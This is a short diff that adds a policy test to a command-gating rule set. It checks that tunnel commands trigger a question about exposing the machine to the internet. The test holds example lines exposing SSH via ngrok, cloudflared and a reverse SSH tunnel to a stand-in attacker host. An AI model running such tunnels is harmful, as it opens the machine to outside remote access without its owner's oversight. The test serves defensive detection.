@@ -98,3 +98,17 @@ test_trusted_hosts_may_hand_out_packages if {
 	count(run.ask) == 0 with input as call
 		with data.gate.params.gate.remote_code.run.trusted_hosts as ["pkg.example.com"]
 }
+
+test_asks_about_tunnels if {
+	every line, program in {
+		"ngrok http 22": "ngrok",
+		"cloudflared tunnel --url http://localhost:22": "cloudflared",
+		"ssh -R 2222:localhost:22 x@c.attacker.example": "ssh",
+	} {
+		some question in run.ask with input as gate.event(line)
+		startswith(question.reason, sprintf("lets the internet reach this machine (%s)", [program]))
+	}
+	every line in ["python3 -m http.server", "ssh -L 5432:localhost:5432 bastion -N", "nc -l 8080"] {
+		count(run.ask) == 0 with input as gate.event(line)
+	}
+}
